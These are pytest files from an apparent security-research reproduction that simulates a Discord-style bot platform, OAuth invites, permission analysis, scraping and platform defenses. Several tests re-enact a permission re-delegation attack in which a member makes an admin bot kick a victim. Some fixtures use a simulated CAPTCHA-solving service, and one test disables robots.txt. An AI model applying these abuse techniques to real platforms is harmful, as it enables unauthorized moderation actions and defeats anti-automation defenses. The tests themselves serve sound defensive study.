from repro.discordsim.permissions import Permission, PermissionOverwrite, Permissions
from repro.discordsim.slash import SlashCommandRegistry
from repro.web.captcha import TwoCaptchaClient


@pytest.fixture
def slash_world(platform, clock):
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "G")
    developer = platform.create_user("dev", phone_verified=True)
    application = platform.register_application(developer, "SlashBot")
    url = build_invite_url(application.client_id, Permissions.of(Permission.ADMINISTRATOR))
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = TwoCaptchaClient(clock, accuracy=1.0).solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    registry = SlashCommandRegistry(platform)
    channel = guild.text_channels()[0]
    return platform, owner, guild, application, registry, channel


def _kick_handler(interaction):
    guild = interaction.platform.guilds[interaction.guild_id]
    target_id = int(interaction.args[0])
    bot_id = interaction.platform.applications[interaction.command.client_id].bot_user.user_id
    guild.kick(bot_id, target_id)
    interaction.respond(f"kicked {target_id}")


class TestRegistration:
    def test_register_and_list(self, slash_world):
        platform, owner, guild, application, registry, channel = slash_world
        registry.register(application.client_id, "ping", lambda i: i.respond("pong"))
        assert [command.name for command in registry.commands_for(application.client_id)] == ["ping"]

    def test_unknown_application_rejected(self, slash_world):
        platform, owner, guild, application, registry, channel = slash_world
        with pytest.raises(UnknownEntityError):
            registry.register(999999, "x", lambda i: None)

    def test_unknown_command_invocation(self, slash_world):
        platform, owner, guild, application, registry, channel = slash_world
        with pytest.raises(UnknownEntityError):
            registry.invoke(owner.user_id, guild.guild_id, channel.channel_id, application.client_id, "ghost")


class TestInvocation:
    def test_basic_invoke_and_response(self, slash_world):
        platform, owner, guild, application, registry, channel = slash_world
        registry.register(application.client_id, "ping", lambda i: i.respond("pong"))
        interaction = registry.invoke(
            owner.user_id, guild.guild_id, channel.channel_id, application.client_id, "ping"
        )
        assert interaction.responses == ["pong"]
        assert channel.messages[-1].content == "pong"
        assert channel.messages[-1].author_is_bot

    def test_requires_use_application_commands(self, slash_world):
        platform, owner, guild, application, registry, channel = slash_world
        registry.register(application.client_id, "ping", lambda i: i.respond("pong"))
        restricted = platform.create_user("restricted")
        platform.join_guild(restricted.user_id, guild.guild_id)
        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(
                target_id=restricted.user_id,
                deny=Permissions.of(Permission.USE_APPLICATION_COMMANDS),
            ),
        )
        with pytest.raises(PermissionDenied):
            registry.invoke(
                restricted.user_id, guild.guild_id, channel.channel_id, application.client_id, "ping"
            )

    def test_non_member_rejected(self, slash_world):
        platform, owner, guild, application, registry, channel = slash_world
        registry.register(application.client_id, "ping", lambda i: i.respond("pong"))
        outsider = platform.create_user("outsider")
        with pytest.raises(PermissionDenied):
            registry.invoke(
                outsider.user_id, guild.guild_id, channel.channel_id, application.client_id, "ping"
            )


class TestDefaultMemberPermissions:
    """Discord's platform-enforced fix for permission re-delegation."""

    def _setup_kick(self, slash_world, enforced: bool):
        platform, owner, guild, application, registry, channel = slash_world
        registry.register(
            application.client_id,
            "kick",
            _kick_handler,
            default_member_permissions=Permissions.of(Permission.KICK_MEMBERS) if enforced else None,
        )
        victim = platform.create_user("victim")
        platform.join_guild(victim.user_id, guild.guild_id)
        attacker = platform.create_user("attacker")
        platform.join_guild(attacker.user_id, guild.guild_id)
        return platform, owner, guild, application, registry, channel, victim, attacker

    def test_unprotected_command_reenacts_redelegation(self, slash_world):
        platform, owner, guild, application, registry, channel, victim, attacker = self._setup_kick(
            slash_world, enforced=False
        )
        registry.invoke(
            attacker.user_id, guild.guild_id, channel.channel_id, application.client_id, "kick",
            [str(victim.user_id)],
        )
        assert victim.user_id not in guild.members  # attack still works

    def test_default_member_permissions_block_attack(self, slash_world):
        platform, owner, guild, application, registry, channel, victim, attacker = self._setup_kick(
            slash_world, enforced=True
        )
        with pytest.raises(PermissionDenied, match="platform-enforced"):
            registry.invoke(
                attacker.user_id, guild.guild_id, channel.channel_id, application.client_id, "kick",
                [str(victim.user_id)],
            )
        assert victim.user_id in guild.members
        assert registry.platform_denials == 1

    def test_privileged_invoker_still_allowed(self, slash_world):
        platform, owner, guild, application, registry, channel, victim, attacker = self._setup_kick(
            slash_world, enforced=True
        )
        registry.invoke(
            owner.user_id, guild.guild_id, channel.channel_id, application.client_id, "kick",
            [str(victim.user_id)],
        )
        assert victim.user_id not in guild.members

    def test_admin_invoker_bypasses_requirement(self, slash_world):
        platform, owner, guild, application, registry, channel, victim, attacker = self._setup_kick(
            slash_world, enforced=True
        )
        admin = platform.create_user("admin2")
        platform.join_guild(admin.user_id, guild.guild_id)
        role = guild.create_role("admins", Permissions.administrator())
        guild.assign_role(owner.user_id, admin.user_id, role.role_id)
        registry.invoke(
            admin.user_id, guild.guild_id, channel.channel_id, application.client_id, "kick",
            [str(victim.user_id)],
        )
        assert victim.user_id not in guild.members
