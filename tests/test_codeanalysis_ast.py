"""Tests for the AST-based Python permission-check analyzer."""

import pytest

from repro.codeanalysis.pyast import PythonAstAnalyzer, compare_with_substring


class TestAstDetection:
    def setup_method(self):
        self.analyzer = PythonAstAnalyzer()

    def test_has_call_detected(self):
        files = {"bot.py": "def cmd(ctx):\n    if not ctx.perms.has(KICK):\n        return\n"}
        analysis = self.analyzer.analyze(files)
        assert analysis.performs_check
        hit = analysis.hits[0]
        assert hit.construct == "has_call" and hit.line_number == 2

    def test_permission_attribute_detected(self):
        files = {"bot.py": "def cmd(ctx):\n    p = ctx.author.guild_permissions\n    return p\n"}
        analysis = self.analyzer.analyze(files)
        assert any(hit.construct == "permission_attribute" for hit in analysis.hits)

    def test_permissions_for_detected(self):
        files = {"bot.py": "x = channel.permissions_for(member)\n"}
        assert self.analyzer.analyze(files).performs_check

    def test_decorator_detected_sync_and_async(self):
        files = {
            "a.py": "@commands.has_permissions(kick_members=True)\ndef kick(ctx):\n    pass\n",
            "b.py": "@has_guild_permissions(ban_members=True)\nasync def ban(ctx):\n    pass\n",
        }
        analysis = self.analyzer.analyze(files)
        constructs = {hit.construct for hit in analysis.hits}
        assert constructs == {"check_decorator"}
        assert len(analysis.hits) == 2

    def test_clean_code_not_flagged(self):
        files = {"bot.py": "async def ping(ctx):\n    await ctx.reply('pong')\n"}
        assert not self.analyzer.analyze(files).performs_check

    def test_pattern_in_string_ignored(self):
        """The substring method's false positive; AST sees a literal."""
        files = {"bot.py": "HELP = 'use perms.has( to check permissions'\n"}
        assert not self.analyzer.analyze(files).performs_check

    def test_pattern_in_comment_ignored(self):
        files = {"bot.py": "# TODO: call perms.has( here someday\npass\n"}
        assert not self.analyzer.analyze(files).performs_check

    def test_dict_has_key_like_method_still_counts(self):
        """A known over-trigger shared with the paper's method: any `.has(`
        call matches, e.g. a set wrapper — documented behaviour."""
        files = {"bot.py": "if cache.has(key):\n    pass\n"}
        assert self.analyzer.analyze(files).performs_check

    def test_syntax_errors_reported(self):
        files = {"broken.py": "def oops(:\n", "ok.py": "x = 1\n"}
        analysis = self.analyzer.analyze(files)
        assert analysis.parse_failures == ["broken.py"]

    def test_non_python_files_skipped(self):
        files = {"index.js": "member.roles.cache.has(role)"}
        assert not self.analyzer.analyze(files).performs_check


class TestComparisonWithSubstring:
    def test_agreement_on_real_check(self):
        files = {"bot.py": "if not perms.has(x):\n    pass\n"}
        verdict = compare_with_substring(files)
        assert verdict == {"substring": True, "ast": True}

    def test_substring_false_positive_exposed(self):
        files = {"bot.py": "DOCS = 'perms.has( is the API to use'\n"}
        verdict = compare_with_substring(files)
        assert verdict["substring"] is True  # naive matching over-counts
        assert verdict["ast"] is False

    def test_ast_catches_decorator_substring_misses(self):
        """The discord.py idiom carries none of the four Table-3 strings."""
        files = {"bot.py": "@commands.has_permissions(kick_members=True)\nasync def kick(ctx):\n    pass\n"}
        verdict = compare_with_substring(files)
        assert verdict["substring"] is False  # paper's method: false negative
        assert verdict["ast"] is True

    def test_generated_python_repos_agree(self):
        """On the generator's idiomatic code the two methods coincide."""
        import random

        from repro.ecosystem.repos import RepoKind, generate_repo

        for seed in range(20):
            for checked in (True, False):
                spec = generate_repo(
                    RepoKind.VALID_CODE, "dev", f"B{seed}{checked}", "Python", checked, random.Random(seed)
                )
                verdict = compare_with_substring(spec.files)
                assert verdict["substring"] == verdict["ast"] == checked
