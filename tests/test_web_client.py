"""Tests for the HTTP client: redirects, timeouts, retries, cookies."""

import pytest

from repro.web.client import HttpClient, RequestTimeoutError, TooManyRedirectsError
from repro.web.http import Response
from repro.web.network import ConnectionFailedError, HostConditions
from repro.web.server import VirtualHost


@pytest.fixture
def host(internet):
    host = VirtualHost("a")
    host.add_route("/", lambda request: Response.text("home"))
    host.add_route("/hop1", lambda request: Response.redirect("/hop2"))
    host.add_route("/hop2", lambda request: Response.redirect("/final"))
    host.add_route("/final", lambda request: Response.text("landed"))
    host.add_route("/loop", lambda request: Response.redirect("/loop"))
    host.add_route("/setcookie", lambda request: _with_cookie())
    host.add_route("/readcookie", lambda request: Response.text(request.cookie("sid") or "none"))
    host.add_route("/echo", lambda request: Response.text(request.body), method="POST")
    internet.register("a.sim", host)
    return host


def _with_cookie() -> Response:
    response = Response.text("ok")
    response.set_cookie("sid", "s3cr3t")
    return response


class TestBasics:
    def test_get(self, internet, host):
        client = HttpClient(internet)
        response = client.get("https://a.sim/")
        assert response.body == "home"
        assert str(response.url) == "https://a.sim/"

    def test_relative_url_rejected(self, internet, host):
        with pytest.raises(ValueError):
            HttpClient(internet).get("/relative")

    def test_post_body(self, internet, host):
        client = HttpClient(internet)
        assert client.post("https://a.sim/echo", body="data").body == "data"

    def test_requests_sent_counter(self, internet, host):
        client = HttpClient(internet)
        client.get("https://a.sim/")
        client.get("https://a.sim/hop1")  # +3 exchanges for the chain
        assert client.requests_sent == 4


class TestRedirects:
    def test_follows_chain_and_reports_final_url(self, internet, host):
        client = HttpClient(internet)
        response = client.get("https://a.sim/hop1")
        assert response.body == "landed"
        assert str(response.url) == "https://a.sim/final"

    def test_redirects_can_be_disabled(self, internet, host):
        client = HttpClient(internet)
        response = client.get("https://a.sim/hop1", follow_redirects=False)
        assert response.status == 302
        assert response.headers["Location"] == "/hop2"

    def test_redirect_loop_raises(self, internet, host):
        client = HttpClient(internet, max_redirects=5, default_timeout=1e9)
        with pytest.raises(TooManyRedirectsError):
            client.get("https://a.sim/loop")


class TestTimeouts:
    def test_slow_host_times_out(self, internet, host):
        internet.register("slow.sim", _slow_host(), HostConditions(base_latency=20.0))
        client = HttpClient(internet)
        with pytest.raises(RequestTimeoutError):
            client.get("https://slow.sim/", timeout=10.0)

    def test_budget_covers_whole_redirect_chain(self, internet, host):
        # Each hop costs 4s; three requests = 12s > 10s budget.
        slow = VirtualHost("s")
        slow.add_route("/a", lambda request: Response.redirect("/b"))
        slow.add_route("/b", lambda request: Response.redirect("/c"))
        slow.add_route("/c", lambda request: Response.text("done"))
        internet.register("s.sim", slow, HostConditions(base_latency=4.0))
        client = HttpClient(internet)
        with pytest.raises(RequestTimeoutError):
            client.get("https://s.sim/a", timeout=10.0)

    def test_fast_chain_within_budget(self, internet, host):
        client = HttpClient(internet)
        assert client.get("https://a.sim/hop1", timeout=10.0).body == "landed"


def _slow_host() -> VirtualHost:
    host = VirtualHost("slow")
    host.add_route("/", lambda request: Response.text("late"))
    return host


class TestRetries:
    def test_retries_connection_failures(self, internet, host):
        internet.register("flaky.sim", _slow_host(), HostConditions(failure_rate=1.0))
        client = HttpClient(internet)
        with pytest.raises(ConnectionFailedError):
            client.get_with_retries("https://flaky.sim/", attempts=3)
        # One exchange per attempt.
        assert client.requests_sent == 3

    def test_retry_backoff_advances_clock(self, clock, internet, host):
        internet.register("flaky.sim", _slow_host(), HostConditions(base_latency=0.0, failure_rate=1.0))
        client = HttpClient(internet)
        with pytest.raises(ConnectionFailedError):
            client.get_with_retries("https://flaky.sim/", attempts=3, backoff=1.0)
        # Backoff 1.0 + 2.0 between three attempts.
        assert clock.now() == pytest.approx(3.0)

    def test_attempts_must_be_positive(self, internet, host):
        with pytest.raises(ValueError):
            HttpClient(internet).get_with_retries("https://a.sim/", attempts=0)

    def test_success_needs_no_retry(self, internet, host):
        client = HttpClient(internet)
        assert client.get_with_retries("https://a.sim/").body == "home"
        assert client.requests_sent == 1


class TestCookies:
    def test_cookie_stored_and_replayed(self, internet, host):
        client = HttpClient(internet)
        client.get("https://a.sim/setcookie")
        assert client.cookies.get("a.sim", "sid") == "s3cr3t"
        assert client.get("https://a.sim/readcookie").body == "s3cr3t"

    def test_cookies_are_per_host(self, internet, host):
        other = VirtualHost("b")
        other.add_route("/readcookie", lambda request: Response.text(request.cookie("sid") or "none"))
        internet.register("b.sim", other)
        client = HttpClient(internet)
        client.get("https://a.sim/setcookie")
        assert client.get("https://b.sim/readcookie").body == "none"
