"""Tests for robots.txt parsing and enforcement by the polite scraper."""

import pytest

from repro.botstore.host import StoreDefenses, build_store_host
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.scraper.base import PoliteScraper, RobotsDisallowedError, ScraperConfig
from repro.scraper.robots import RobotsCache, RobotsPolicy, parse_robots_txt
from repro.web.captcha import TwoCaptchaClient
from repro.web.client import HttpClient
from repro.web.http import Response
from repro.web.server import VirtualHost


class TestParsing:
    def test_crawl_delay_and_disallow(self):
        policy = parse_robots_txt("User-agent: *\nCrawl-delay: 2.5\nDisallow: /admin\n")
        assert policy.crawl_delay == 2.5
        assert not policy.allows("/admin")
        assert not policy.allows("/admin/users")
        assert policy.allows("/bots")

    def test_other_user_agents_ignored(self):
        policy = parse_robots_txt("User-agent: Googlebot\nDisallow: /\n\nUser-agent: *\nCrawl-delay: 1\n")
        assert policy.allows("/anything")
        assert policy.crawl_delay == 1.0

    def test_comments_and_blank_lines(self):
        policy = parse_robots_txt("# hello\nUser-agent: *\nDisallow: /x  # secret\n")
        assert not policy.allows("/x")

    def test_malformed_crawl_delay_skipped(self):
        policy = parse_robots_txt("User-agent: *\nCrawl-delay: soon\n")
        assert policy.crawl_delay == 0.0

    def test_empty_disallow_means_allow(self):
        policy = parse_robots_txt("User-agent: *\nDisallow:\n")
        assert policy.allows("/anything")


class TestCache:
    def test_missing_robots_is_permissive(self, internet):
        host = VirtualHost("plain")
        host.add_route("/", lambda request: Response.text("hi"))
        internet.register("plain.sim", host)
        cache = RobotsCache()
        policy = cache.policy_for(HttpClient(internet), "plain.sim")
        assert policy.allows("/anything")
        assert policy.crawl_delay == 0.0

    def test_fetched_once_per_host(self, internet):
        host = VirtualHost("counted")
        hits = []
        host.add_route("/robots.txt", lambda request: (hits.append(1), Response.text("User-agent: *\n"))[1])
        internet.register("counted.sim", host)
        cache = RobotsCache()
        client = HttpClient(internet)
        cache.policy_for(client, "counted.sim")
        cache.policy_for(client, "counted.sim")
        assert len(hits) == 1

    def test_unreachable_host_is_permissive(self, internet):
        cache = RobotsCache()
        policy = cache.policy_for(HttpClient(internet), "ghost.sim")
        assert policy.allows("/x") and not policy.fetched


class TestScraperEnforcement:
    @pytest.fixture
    def store_world(self, internet, clock):
        ecosystem = generate_ecosystem(EcosystemConfig(n_bots=60, seed=8, honeypot_window=10))
        build_store_host(ecosystem, internet, StoreDefenses(captcha_enabled=False))
        return internet, clock

    def test_disallowed_path_refused(self, store_world):
        internet, clock = store_world
        scraper = PoliteScraper(internet, solver=TwoCaptchaClient(clock, accuracy=1.0))
        with pytest.raises(RobotsDisallowedError):
            scraper.fetch("https://top.gg.sim/admin")

    def test_crawl_delay_slows_pacing(self, store_world):
        internet, clock = store_world
        config = ScraperConfig(min_think_time=0.1, max_think_time=0.1)
        scraper = PoliteScraper(internet, config=config)
        scraper.fetch("https://top.gg.sim/")
        start = clock.now()
        for _ in range(5):
            scraper.fetch("https://top.gg.sim/")
        # robots.txt advertises Crawl-delay: 2 -> at least 2s per request.
        assert clock.now() - start >= 10.0

    def test_respect_can_be_disabled(self, store_world):
        internet, clock = store_world
        config = ScraperConfig(min_think_time=0.0, max_think_time=0.0, respect_robots=False)
        scraper = PoliteScraper(internet, config=config)
        response = scraper.fetch("https://top.gg.sim/admin")
        assert response.status == 403  # server-side refusal, not robots

    def test_robots_exempt_from_captcha_wall(self, internet, clock):
        ecosystem = generate_ecosystem(EcosystemConfig(n_bots=30, seed=8, honeypot_window=5))
        build_store_host(ecosystem, internet, StoreDefenses(captcha_every=1))
        client = HttpClient(internet)
        response = client.get("https://top.gg.sim/robots.txt")
        assert response.status == 200
        assert "Crawl-delay" in response.body
