"""Tests for models, snowflakes, gateway and OAuth."""

import pytest

from repro.discordsim.gateway import Event, EventBus, EventType
from repro.discordsim.models import Attachment, Channel, ChannelType, Message, User
from repro.discordsim.oauth import (
    ConsentScreen,
    InviteLink,
    InviteLinkError,
    OAuthScope,
    build_invite_url,
    parse_invite_url,
)
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.snowflake import (
    SnowflakeGenerator,
    snowflake_sequence,
    snowflake_timestamp_ms,
    snowflake_worker,
)
from repro.web.dom import parse_html
from repro.web.network import VirtualClock


class TestSnowflakes:
    def test_unique_ids(self, clock):
        generator = SnowflakeGenerator(clock)
        ids = [generator.next_id() for _ in range(5000)]
        assert len(set(ids)) == 5000

    def test_time_ordered(self, clock):
        generator = SnowflakeGenerator(clock)
        first = generator.next_id()
        clock.advance(1.0)
        second = generator.next_id()
        assert second > first

    def test_components_roundtrip(self):
        clock = VirtualClock(12.345)
        generator = SnowflakeGenerator(clock, worker_id=7)
        snowflake = generator.next_id()
        assert snowflake_timestamp_ms(snowflake) == 12345
        assert snowflake_worker(snowflake) == 7
        assert snowflake_sequence(snowflake) == 0

    def test_sequence_increments_within_millisecond(self, clock):
        generator = SnowflakeGenerator(clock)
        a = generator.next_id()
        b = generator.next_id()
        assert snowflake_sequence(b) == snowflake_sequence(a) + 1

    def test_worker_id_bounds(self, clock):
        with pytest.raises(ValueError):
            SnowflakeGenerator(clock, worker_id=1024)


class TestMessageExtraction:
    def _message(self, content: str) -> Message:
        return Message(1, 2, 3, 4, content, 0.0)

    def test_urls_extracted(self):
        message = self._message("see https://a.sim/x and http://b.sim/y?z=1 now")
        assert message.urls() == ["https://a.sim/x", "http://b.sim/y?z=1"]

    def test_emails_extracted(self):
        message = self._message("mail me at token123@canary.sim ok?")
        assert message.email_addresses() == ["token123@canary.sim"]

    def test_no_matches(self):
        message = self._message("nothing interesting here")
        assert message.urls() == [] and message.email_addresses() == []


class TestChannelHistory:
    def test_history_most_recent_first(self):
        channel = Channel(1, 2, "general")
        for index in range(5):
            channel.messages.append(Message(index, 1, 2, 3, f"m{index}", float(index)))
        history = channel.history()
        assert [message.content for message in history] == ["m4", "m3", "m2", "m1", "m0"]

    def test_history_limit(self):
        channel = Channel(1, 2, "general")
        for index in range(5):
            channel.messages.append(Message(index, 1, 2, 3, f"m{index}", float(index)))
        assert len(channel.history(limit=2)) == 2


class TestAttachment:
    def test_extension(self):
        attachment = Attachment(1, "notes.DOCX", "application/x", 10)
        assert attachment.extension == "docx"

    def test_user_tag(self):
        user = User(user_id=1, name="editid", discriminator="6714")
        assert user.tag == "editid#6714"


class TestEventBus:
    def test_type_filter(self):
        bus = EventBus()
        seen = []
        bus.subscribe(seen.append, EventType.MESSAGE_CREATE)
        bus.dispatch(Event(EventType.GUILD_CREATE, 1))
        bus.dispatch(Event(EventType.MESSAGE_CREATE, 1))
        assert len(seen) == 1

    def test_predicate_filter(self):
        bus = EventBus()
        seen = []
        bus.subscribe(seen.append, predicate=lambda event: event.guild_id == 7)
        bus.dispatch(Event(EventType.MESSAGE_CREATE, 7))
        bus.dispatch(Event(EventType.MESSAGE_CREATE, 8))
        assert [event.guild_id for event in seen] == [7]

    def test_unsubscribe(self):
        bus = EventBus()
        seen = []
        unsubscribe = bus.subscribe(seen.append)
        unsubscribe()
        bus.dispatch(Event(EventType.MESSAGE_CREATE, 1))
        assert seen == []
        unsubscribe()  # idempotent

    def test_delivery_count(self):
        bus = EventBus()
        bus.subscribe(lambda event: None)
        bus.subscribe(lambda event: None)
        assert bus.dispatch(Event(EventType.MESSAGE_CREATE, 1)) == 2
        assert bus.events_dispatched == 1
        assert bus.deliveries == 2


class TestInviteLinks:
    def test_roundtrip(self):
        permissions = Permissions.of(Permission.ADMINISTRATOR, Permission.SEND_MESSAGES)
        url = build_invite_url(123, permissions)
        invite = parse_invite_url(url)
        assert invite.client_id == 123
        assert invite.permissions == permissions
        assert invite.scopes == (OAuthScope.BOT,)

    def test_missing_client_id(self):
        with pytest.raises(InviteLinkError):
            parse_invite_url("https://discord.sim/oauth2/authorize?permissions=8&scope=bot")

    def test_malformed_permissions(self):
        with pytest.raises(InviteLinkError):
            parse_invite_url("https://discord.sim/oauth2/authorize?client_id=1&permissions=oops&scope=bot")

    def test_bot_scope_required(self):
        with pytest.raises(InviteLinkError):
            parse_invite_url("https://discord.sim/oauth2/authorize?client_id=1&permissions=0&scope=identify")

    def test_unknown_scope(self):
        with pytest.raises(InviteLinkError):
            parse_invite_url("https://discord.sim/oauth2/authorize?client_id=1&permissions=0&scope=bot%20magic")

    def test_not_an_oauth_path(self):
        with pytest.raises(InviteLinkError):
            parse_invite_url("https://discord.sim/totally/else")

    def test_multi_scope(self):
        url = build_invite_url(5, Permissions.none(), scopes=(OAuthScope.BOT, OAuthScope.IDENTIFY))
        invite = parse_invite_url(url)
        assert OAuthScope.IDENTIFY in invite.scopes

    def test_whitelist_flags(self):
        assert OAuthScope.MESSAGES_READ.requires_whitelist
        assert OAuthScope.RPC.testing_only
        assert not OAuthScope.BOT.requires_whitelist


class TestConsentScreen:
    def test_renders_permission_list(self):
        invite = InviteLink(client_id=1, permissions=Permissions.of(Permission.ADMINISTRATOR, Permission.SPEAK))
        screen = ConsentScreen(bot_name="MegaBot", invite=invite, guild_names=["My Server"])
        page = parse_html(screen.render_html())
        items = [node.text for node in page.select("ul#permission-list li.permission-item")]
        assert items == ["administrator", "speak"]
        assert page.select_one("#bot-name").text == "MegaBot"

    def test_renders_captcha_when_present(self):
        invite = InviteLink(client_id=1, permissions=Permissions.none())
        screen = ConsentScreen(
            bot_name="B", invite=invite, captcha_challenge_id="ch-1", captcha_prompt="What is 1 + 1?"
        )
        page = parse_html(screen.render_html())
        challenge = page.select_one("#captcha-challenge")
        assert challenge.get("data-challenge-id") == "ch-1"
        assert "1 + 1" in challenge.select_one("p.prompt").text
