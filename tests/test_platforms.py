"""Tests for platform security profiles and the runtime policy enforcer."""

import pytest

from repro.discordsim.behaviors import MODERATION_UNCHECKED, build_runtime
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DISCORD_POLICY, ENFORCED_POLICY, InstallError
from repro.platforms import PLATFORM_PROFILES, make_platform
from repro.web.captcha import TwoCaptchaClient


def _install_unchecked_modbot(platform, vet: bool = False):
    """Owner + guild + an admin-privileged unchecked moderation bot."""
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "G")
    developer = platform.create_user("dev", phone_verified=True)
    application = platform.register_application(developer, "ModBot")
    if vet:
        platform.vet_application(application.client_id)
    url = build_invite_url(application.client_id, Permissions.of(Permission.ADMINISTRATOR))
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = TwoCaptchaClient(platform.clock, accuracy=1.0).solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    build_runtime(platform, application.bot_user.user_id, MODERATION_UNCHECKED)
    return owner, guild


def _attack(platform, guild):
    """An unprivileged member tries to kick another via the bot."""
    victim = platform.create_user("victim")
    platform.join_guild(victim.user_id, guild.guild_id)
    attacker = platform.create_user("attacker")
    platform.join_guild(attacker.user_id, guild.guild_id)
    channel = guild.text_channels()[0]
    platform.post_message(attacker.user_id, guild.guild_id, channel.channel_id, f"!kick {victim.user_id}")
    return victim.user_id in guild.members  # True => attack blocked


class TestProfiles:
    def test_four_profiles_defined(self):
        assert set(PLATFORM_PROFILES) == {"discord", "slack", "teams", "telegram"}

    def test_discord_and_telegram_lack_enforcer(self):
        assert not PLATFORM_PROFILES["discord"].runtime_enforcer
        assert not PLATFORM_PROFILES["telegram"].runtime_enforcer

    def test_slack_and_teams_have_enforcer(self):
        assert PLATFORM_PROFILES["slack"].runtime_enforcer
        assert PLATFORM_PROFILES["teams"].runtime_enforcer

    def test_unknown_profile(self):
        with pytest.raises(KeyError):
            make_platform("icq")

    def test_policy_constants(self):
        assert not DISCORD_POLICY.runtime_user_permission_checks
        assert ENFORCED_POLICY.runtime_user_permission_checks


class TestReDelegationAcrossPlatforms:
    def test_attack_succeeds_on_discord(self):
        platform = make_platform("discord")
        owner, guild = _install_unchecked_modbot(platform)
        assert _attack(platform, guild) is False  # victim kicked

    def test_attack_succeeds_on_telegram(self):
        platform = make_platform("telegram")
        owner, guild = _install_unchecked_modbot(platform)
        assert _attack(platform, guild) is False

    def test_attack_blocked_on_slack(self):
        platform = make_platform("slack")
        owner, guild = _install_unchecked_modbot(platform, vet=True)
        assert _attack(platform, guild) is True  # enforcer saved the victim
        assert platform.enforcer_denials >= 1

    def test_attack_blocked_on_teams(self):
        platform = make_platform("teams")
        owner, guild = _install_unchecked_modbot(platform, vet=True)
        assert _attack(platform, guild) is True

    def test_enforcer_allows_privileged_invoker(self):
        platform = make_platform("slack")
        owner, guild = _install_unchecked_modbot(platform, vet=True)
        victim = platform.create_user("victim")
        platform.join_guild(victim.user_id, guild.guild_id)
        channel = guild.text_channels()[0]
        # The owner has KICK_MEMBERS, so the enforcer permits the action.
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, f"!kick {victim.user_id}")
        assert victim.user_id not in guild.members

    def test_enforcer_ignores_autonomous_bot_actions(self):
        platform = make_platform("slack")
        owner, guild = _install_unchecked_modbot(platform, vet=True)
        bot_member = guild.bot_members()[0]
        from repro.discordsim.api import BotApiClient

        api = BotApiClient(platform, bot_member.user_id)
        target = platform.create_user("t")
        platform.join_guild(target.user_id, guild.guild_id)
        api.kick_member(guild.guild_id, target.user_id)  # no acting_for -> allowed
        assert target.user_id not in guild.members


class TestVetting:
    def test_unvetted_app_blocked_on_vetting_platform(self):
        platform = make_platform("slack")
        owner = platform.create_user("owner", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        developer = platform.create_user("dev")
        application = platform.register_application(developer, "NewBot")
        url = build_invite_url(application.client_id, Permissions.none())
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        answer = TwoCaptchaClient(platform.clock, accuracy=1.0).solve(screen.captcha_prompt)
        with pytest.raises(InstallError, match="review"):
            platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)

    def test_vetting_not_required_on_discord(self):
        platform = make_platform("discord")
        _install_unchecked_modbot(platform, vet=False)  # no error

    def test_vet_unknown_application(self):
        platform = make_platform("slack")
        with pytest.raises(Exception):
            platform.vet_application(12345)
