"""Streamed population == materialized population, in values and in bytes.

Three layers of the equivalence contract from ISSUE 9:

1. **Generator**: `iter_bots` concatenated over randomized chunk splits is
   element-identical to `generate_ecosystem` for randomized seeds — the
   stream is a view of the same deterministic population, not a lookalike.
2. **Pipeline**: a `--stream` run produces comparable result JSON that is
   byte-identical to the materialized run, sequential and sharded, with
   bot payloads included.
3. **Memory**: streamed consumption stays under a fixed traced-memory
   ceiling independent of population size, and the full streamed pipeline
   grows sublinearly once its bounded caches saturate — a reintroduced
   per-bot accumulator fails this loudly.
"""

from __future__ import annotations

import json
import random
import tracemalloc
from collections import deque

import pytest

from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline, PipelineWorld
from repro.core.serialize import comparable_result, result_to_dict
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.ecosystem.stream import EcosystemStream, iter_bots


class TestIterBotsEquivalence:
    @pytest.mark.parametrize("seed", [0, 7, 2022, 91_210])
    def test_concatenated_chunks_match_materialized(self, seed):
        """Random chunk splits reassemble the exact materialized population."""
        n_bots = 700
        materialized = generate_ecosystem(EcosystemConfig(n_bots=n_bots, seed=seed)).bots
        rng = random.Random(seed * 31 + 5)
        streamed = []
        start = 0
        while start < n_bots:
            count = rng.randint(1, 257)
            streamed.extend(iter_bots(seed=seed, start=start, count=count, n_bots=n_bots))
            start += count
        assert len(streamed) == len(materialized)
        for lhs, rhs in zip(streamed, materialized):
            assert lhs == rhs

    def test_arbitrary_slices_match(self):
        """Any (start, count) window equals the same slice of the full list."""
        n_bots = 600
        materialized = generate_ecosystem(EcosystemConfig(n_bots=n_bots, seed=13)).bots
        stream = EcosystemStream(EcosystemConfig(n_bots=n_bots, seed=13))
        rng = random.Random(99)
        for _ in range(12):
            start = rng.randint(0, n_bots - 1)
            count = rng.randint(1, n_bots - start)
            window = list(stream.iter_bots(start, count))
            assert window == materialized[start : start + count]

    def test_chunk_size_never_changes_bots(self):
        """The chunked iterator yields the same bots for any batch size."""
        config = EcosystemConfig(n_bots=300, seed=4)
        baseline = list(EcosystemStream(config).iter_bots())
        for chunk in (1, 7, 64, 300, 1000):
            stream = EcosystemStream(config)
            rebuilt = [bot for batch in stream.iter_chunks(chunk) for bot in batch]
            assert rebuilt == baseline


def _comparable_json(result) -> bytes:
    payload = comparable_result(result_to_dict(result, include_bots=True))
    return json.dumps(payload, sort_keys=True, indent=1).encode("utf-8")


def _config(**overrides) -> PipelineConfig:
    base = dict(
        n_bots=120,
        seed=7,
        honeypot_sample_size=8,
        validation_sample_size=10,
        chaos_profile="hostile",
        chaos_seed=1,
        adversarial_bots=2,
    )
    base.update(overrides)
    return PipelineConfig(**base)


@pytest.fixture(scope="module")
def materialized_golden() -> bytes:
    return _comparable_json(AssessmentPipeline(config=_config()).run())


